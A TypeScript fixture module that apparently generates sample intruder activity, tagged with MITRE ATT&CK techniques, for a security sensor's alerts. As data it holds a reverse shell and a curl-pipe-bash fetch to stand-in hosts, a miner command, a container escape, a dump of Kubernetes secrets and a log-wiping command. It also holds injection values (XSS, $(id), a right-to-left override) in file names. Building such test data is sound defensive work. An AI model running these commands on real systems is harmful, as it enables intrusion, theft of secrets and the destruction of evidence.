import type { Random } from "../../random";

/** What an intruder did, as the sensor saw it. */
export interface Activity {
  readonly executable: string;
  readonly folder: string;
  readonly commandLine: string;
  readonly parent: string;
  /** Technique or sub-technique of MITRE ATT&CK. */
  readonly technique: string;
  readonly malware?: string;
}

/** What nodes look up when they leak data. */
export const suspiciousDomain = "tunnel.example.net";

const activities: readonly Activity[] = [
  {
    executable: "xmrig",
    folder: "/tmp/.cache",
    commandLine: "/tmp/.cache/xmrig -o pool.example.net:3333 --donate-level 1 -B",
    parent: "sh",
    technique: "T1496",
    malware: "CoinMiner",
  },
  {
    executable: "sh",
    folder: "/bin",
    commandLine: 'sh -c "curl -s http://203.0.113.40/i.sh | bash"',
    parent: "node",
    technique: "T1059.004",
  },
  {
    executable: "nsenter",
    folder: "/usr/bin",
    commandLine: "nsenter --target 1 --mount --uts --ipc --net --pid -- bash",
    parent: "bash",
    technique: "T1611",
  },
  {
    executable: "kubectl",
    folder: "/usr/local/bin",
    commandLine: "kubectl get secrets -A -o json",
    parent: "bash",
    technique: "T1552.007",
  },
  {
    executable: "base64",
    folder: "/usr/bin",
    commandLine: "base64 -d <<< aWQ7IHVuYW1lIC1h | sh",
    parent: "php-fpm",
    technique: "T1027",
  },
  {
    executable: "rm",
    folder: "/bin",
    commandLine: "rm -f /root/.bash_history /var/log/auth.log",
    parent: "bash",
    technique: "T1070.003",
  },
  {
    executable: "python3",
    folder: "/usr/bin",
    commandLine:
      'python3 -c \'import socket,pty;s=socket.socket();s.connect(("198.51.100.23",4444));pty.spawn("/bin/sh")\'',
    parent: "python3",
    technique: "T1059.006",
  },
  {
    executable: "<img src=x onerror=alert(1)>",
    folder: "/tmp",
    commandLine: "/tmp/\"<img src=x onerror=alert(1)>\" --name='$(id)' \u202egnp.exe",
    parent: "sh",
    technique: "T1036.002",
  },
  {
    executable: "dockerd",
    folder: "/usr/bin",
    commandLine: "dockerd --host tcp://0.0.0.0:2375 --storage-driver vfs",
    parent: "containerd-shim",
    technique: "T1610",
    malware: "HackTool",
  },
  {
    executable: "tar",
    folder: "/bin",
    commandLine: `tar czf - ${Array.from({ length: 40 }, (_, index) => `/data/customers/part-${index}.csv`).join(" ")}`,
    parent: "bash",
    technique: "T1560.001",
  },
];

export function pickActivity(random: Random): Activity {
  return random.pick(activities);
}

/** One activity after the other, so that a list of alerts has them all. */
export function activityAt(index: number): Activity {
  const activity = activities[index % activities.length];
  if (!activity) {
    throw new Error("There are no activities.");
  }
  return activity;
}

/** The first activity that left malware behind. */
export function malwareActivity(): Activity & { readonly malware: string } {
  for (const activity of activities) {
    if (activity.malware !== undefined) {
      return { ...activity, malware: activity.malware };
    }
  }
  throw new Error("No activity leaves malware behind.");
}
